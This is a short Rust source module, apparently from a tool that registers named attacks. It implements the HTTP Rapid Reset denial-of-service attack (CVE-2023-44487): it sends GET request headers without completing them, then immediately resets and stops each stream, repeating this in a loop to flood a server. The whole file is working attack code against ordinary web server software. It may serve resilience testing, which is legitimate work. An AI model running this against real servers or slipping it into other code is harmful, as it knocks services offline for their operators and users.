//! Rapid reset (CVE-2023-44487): a GET without its end, then RESET_STREAM.

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack =
    Attack::new("get_reset", "GETs, each reset at once, and stopped", run).by(2);

fn run(a: &mut Attacker) {
    reset_each(a, &wire::get(a.kind.hang()));
}

/// Requests of this head without their end, each reset and stopped.
pub(super) fn reset_each(a: &mut Attacker, head: &[u8]) {
    a.storm(|conn, streams: &mut Vec<_>| {
        // A turn later, so that the head goes out before the reset.
        for id in streams.drain(..) {
            conn.reset(id, 0x10c);
            conn.stop(id, 0x10c);
        }
        while let Some(id) = conn.request(head) {
            streams.push(id);
            conn.ops += 1;
        }
    });
}
